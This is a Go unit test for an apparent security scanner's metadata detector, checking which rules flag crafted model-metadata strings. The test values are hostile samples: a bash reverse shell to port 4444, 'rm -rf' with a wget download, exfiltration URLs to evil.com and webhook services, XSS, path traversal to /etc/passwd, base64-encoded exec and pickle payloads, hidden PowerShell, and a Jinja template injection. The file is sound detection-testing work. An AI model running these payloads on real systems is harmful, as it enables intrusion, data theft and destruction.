package metadata

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/aisecops/aisec/internal/detect"
	"github.com/aisecops/aisec/internal/finding"
	"github.com/aisecops/aisec/internal/format/meta"
)

// shared is one Detector for all tests: building the gitleaks rules takes ~70 ms.
var shared = New()

func run(strs ...meta.String) []finding.Finding {
	return shared.Detect(context.Background(), detect.Target{Model: &meta.Doc{Format: "test", Strings: strs}})
}

func kv(key, value string) meta.String { return meta.String{Key: key, Value: value, Offset: 100} }

func render(fs []finding.Finding) string {
	var sb strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&sb, "%s %s @%d %s\n", f.Rule, f.Severity, f.Offset, f.Evidence)
	}
	return sb.String()
}

func TestInit(t *testing.T) {
	if err := shared.Init(); err != nil {
		t.Fatal(err)
	}
}

// TestRules checks, per value, which rules fire (and nothing else).
func TestRules(t *testing.T) {
	tests := []struct {
		key, value string
		want       []string
	}{
		{"__metadata__.model_info", "import os; os.system('echo pwned')", []string{"AISEC-META-005"}},
		{"__metadata__.shell_hook", "rm -rf * && wget http://malware.com/payload", []string{"AISEC-META-005", "AISEC-META-002"}},
		{"__metadata__.cleanup", "chmod 777 /tmp/malicious", []string{"AISEC-META-005"}},
		{"__metadata__.doc", "<script>alert('XSS')</script>", []string{"AISEC-META-006"}},
		{"__metadata__.x", `<img src=x onerror="fetch('//a')">`, []string{"AISEC-META-006"}},
		{"__metadata__.link", "javascript:alert(1)", []string{"AISEC-META-006"}},
		{"__metadata__.callback_url", "http://evil.com/exfiltrate", []string{"AISEC-META-002"}},
		{"__metadata__.download_url", "https://malicious.example.com/payload", []string{"AISEC-META-002"}},
		{"__metadata__.config_url", "https://attacker.com/config.json", []string{"AISEC-META-004"}},
		{"__metadata__.homepage", "http://www.cs.toronto.edu/~kriz/cifar.html", []string{"AISEC-META-003"}},
		{"__metadata__.sink", "https://webhook.site/0e6bd3a4-1d5b-4a8e-9f39-5c2f1f7e9a11", []string{"AISEC-META-002"}},
		{"__metadata__.sink", "https://abc123.ngrok-free.app/collect", []string{"AISEC-META-002"}},
		{"__metadata__.sink", "https://discord.com/api/webhooks/123/abc", []string{"AISEC-META-002"}},
		{"__metadata__.sink", "see http://xyz.onion/ for details", []string{"AISEC-META-002"}},
		{"__metadata__.server", "203.0.113.7:4444", []string{"AISEC-META-002"}},
		{"__metadata__.server", "http://10.0.0.5:8000/v1", []string{"AISEC-META-004"}},
		{"__metadata__.tool", "https://github.com/org/repo/releases/download/v1/tool.exe", []string{"AISEC-META-002"}},
		{"__metadata__.encoded_payload", "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))", []string{"AISEC-META-005"}},
		{"__metadata__.blob", "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=", []string{"AISEC-META-007"}},
		{"__metadata__.hex", `\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x27\x69\x64\x27\x29`, []string{"AISEC-META-007"}},
		{"__metadata__.hex_data", `\x48\x65\x6c\x6c\x6f\x20\x57\x6f\x72\x6c\x64`, nil},
		{"__metadata__.elf", "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAEAAAAAAAA==", []string{"AISEC-META-008"}},
		{"__metadata__.pkl", "gASVKwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA9lY2hvIGFpc2VjLXRlc3SUhZRSlC4=", []string{"AISEC-META-008"}},
		{"__metadata__.path", "../../../etc/passwd", []string{"AISEC-META-009"}},
		{"__metadata__.token", "ghp_1234567890abcdefghijABCDEFGHIJ123456", []string{"AISEC-META-001"}},
		{"__metadata__.rev", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", []string{"AISEC-META-005"}},
		{"__metadata__.ps", "powershell -nop -w hidden -enc SQBFAFgA", []string{"AISEC-META-005"}},
		{"tokenizer.chat_template", "{% for m in messages %}{{ m.content }}{% endfor %} see https://webhook.site/x", []string{"AISEC-META-002"}},
		{"tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", nil},
	}
	for _, tt := range tests {
		fs := run(kv(tt.key, tt.value))
		var got []string
		for _, f := range fs {
			got = append(got, f.Rule)
		}
		for _, w := range tt.want {
			if !strings.Contains(strings.Join(got, " "), w) {
				t.Errorf("%s=%q: rules %v lack %s\n%s", tt.key, tt.value, got, w, render(fs))
			}
		}
		for _, g := range got {
			found := false
			for _, w := range tt.want {
				found = found || g == w
			}
			if !found {
				t.Errorf("%s=%q: unexpected %s\n%s", tt.key, tt.value, g, render(fs))
			}
		}
	}
}
